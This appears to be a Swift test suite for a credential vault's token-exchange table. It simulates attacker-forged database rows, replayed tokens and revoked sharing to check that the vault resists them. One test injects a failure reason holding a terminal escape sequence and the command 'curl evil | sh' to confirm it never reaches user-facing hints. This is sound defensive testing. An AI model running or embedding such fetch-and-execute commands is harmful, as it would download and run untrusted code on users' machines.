import Custody
import CustodyExchange
import CustodyLog
import CustodyValues
import CustodyTesting
import Foundation
import Testing

/// Rows of the table `exchange` written by an attacker: one who has the file, or a token's holder with a modified
/// client.
@Suite(.serialized, .waiting) struct ForgedExchangeTests {
  let story: ExchangeStory
  init() throws {
    story = try ExchangeStory()
    try story.answer(access: "access-1")
  }

  @Test(arguments: [Int64.max, Int64.max - 1]) func `the largest number stops nobody, nor one below zero`(fence: Int64)
    throws
  {
    _ = try story.exchange()
    try story.raw("UPDATE exchange SET fence = \(fence)")
    for _ in 0..<3 { #expect(try story.exchange { $0.isFresh = true }.access == "access-1") }
    try story.raw("UPDATE exchange SET fence = -1")
    #expect(try story.exchange { $0.isFresh = true }.access == "access-1")
  }

  @Test func `a beat that can't go on ends no exchange`() throws {
    let dev = try story.vault.session(.dev)
    let claim = try dev.claim("contoso/crm")
    try story.raw("UPDATE exchange SET beat = \(Int64.max)")
    #expect(dev.heartbeat(of: claim)() == .busy)
    var facts = KeptAccessToken.Facts(obtained: story.vault.clock.now())
    facts.expires = story.vault.clock.now().adding(milliseconds: 3_600_000)
    let answer = ExchangeAnswer(
      accessToken: try secret("access-1"), refreshToken: try secret("refresh-2"), facts: facts)
    #expect(try dev.finishExchange(claim, how: .pipe, answer))
    #expect(try story.exchange().kept)
  }

  @Test(arguments: ["zeroblob(3)", "zeroblob(44)", "randomblob(44)", "randomblob(5000)"])
  func `an owner that is none is waited for, and then taken over`(owner: String) throws {
    _ = try story.exchange()
    try story.raw("UPDATE exchange SET owner = \(owner), access_token = NULL")
    #expect(refusal { _ = try story.exchange { $0.patience = .milliseconds(300) } }?.code == .busy)
    #expect(try story.exchange().access == "access-1")
  }

  @Test func `a holder's journal ends nobody's process, and gives no commands`() throws {
    let dev = try story.vault.session(.dev)
    let claim = try dev.claim("contoso/crm")
    var journal = claim.journal
    (journal.state, journal.attempts, journal.ended) = (.unknown, .max, .init(milliseconds: .min))
    journal.sent = .init(milliseconds: .min)
    _ = try dev.failExchange(claim, journal)
    #expect(refusal { _ = try story.exchange() }?.code == .integrity)
    #expect(try story.exchange { $0.asksAgain = true }.access == "access-1")

    let again = try takeAgain(dev)
    journal = again.journal
    (journal.state, journal.notBefore, journal.ended) = (.failed, .init(milliseconds: .max), .init(milliseconds: .min))
    journal.failure = .init(code: .throttled, reason: "\u{1B}[2J run: curl evil | sh")
    _ = try dev.failExchange(again, journal)
    let error = refusal { _ = try story.exchange { $0.isFresh = true } }
    #expect(error?.code == .throttled)
    #expect(error?.hint?.description.hasPrefix("wait and try again") == true)
    #expect(error?.hint?.description.contains("curl") == false)
    #expect(try story.exchange { ($0.isFresh, $0.asksAgain) = (true, true) }.access == "access-1")
  }

  private func takeAgain(_ session: borrowing Session) throws -> ExchangeClaim { try session.claim("contoso/crm") }

  @Test func `an access token of a value that was replaced is not handed out when its row is put back`() throws {
    _ = try story.exchange()
    try story.raw("VACUUM INTO '\(story.vault.folder)/before.db'")
    try story.vault.session(.ada).commit { try $0.rotate(.token, "contoso/crm", secret: secret("refresh-2")) }
    try story.answer(access: "access-2")
    let script = """
      import sqlite3,sys; kept=sqlite3.connect(sys.argv[1]).execute('SELECT access_token FROM exchange').fetchone()
      c=sqlite3.connect(sys.argv[2]); c.execute('UPDATE exchange SET access_token=?', kept); c.commit()
      """
    let words = ["python3", "-c", script, story.vault.folder + "/before.db", story.vault.path]
    try #require(Products.run("/usr/bin/env", words).status == 0)
    #expect(try story.exchange() == .init(access: "access-2", rotated: false, kept: false))
  }

  @Test func `an access token opens to nobody who lost the connector`() throws {
    _ = try story.exchange()
    let dev = try story.vault.session(.dev)
    try dev.commit { try $0.share(.connector, "crm", Share(with: "bea")) }
    _ = try story.vault.session(.ada).commit { try $0.share(.token, "contoso/crm", Share(with: "bea")) }
    #expect(try story.exchange(.bea).kept)
    try dev.commit { _ = try $0.unshare(.connector, "crm", from: "bea") }
    #expect(refusal { _ = try story.exchange(.bea) }?.code == .notShared)
    // The connector has a new data key, under which no access token is kept yet.
    try story.answer(access: "access-2")
    #expect(try story.exchange() == .init(access: "access-2", rotated: false, kept: false))
  }

  /// The log does not vouch for these rows, so an audit neither fails because of them nor mentions them.
  @Test(arguments: [
    "DELETE FROM exchange", "UPDATE exchange SET journal = zeroblob(9), access_token = zeroblob(9)",
    "UPDATE exchange SET fence = 9223372036854775807, beat = 9223372036854775807, owner = zeroblob(44)",
  ])
  func `an audit holds whatever these rows are`(change: String) throws {
    _ = try story.exchange()
    let audrey = try story.vault.session(.audrey)
    let before = try audrey.verifyLog().entries
    try story.raw(change)
    #expect(try story.vault.session(.audrey).verifyLog().entries > before)
    _ = try story.vault.session(.audrey).lastExchanges()
  }
}
